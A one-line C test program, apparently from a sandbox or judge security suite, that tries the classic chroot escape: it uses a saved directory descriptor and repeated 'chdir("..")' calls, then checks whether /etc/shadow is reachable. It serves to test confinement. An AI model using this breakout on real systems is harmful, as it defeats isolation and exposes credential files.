// want: AC
#include "attack.h"
int main(int argc,char**argv){mkdir("x",0700);int d=open(".",O_RDONLY);if(chroot("x")){puts("ok");return 0;}fchdir(d);for(int i=0;i<64;i++)chdir("..");chroot(".");puts(access("/etc/shadow",F_OK)?"ok":"LEAK escaped");}
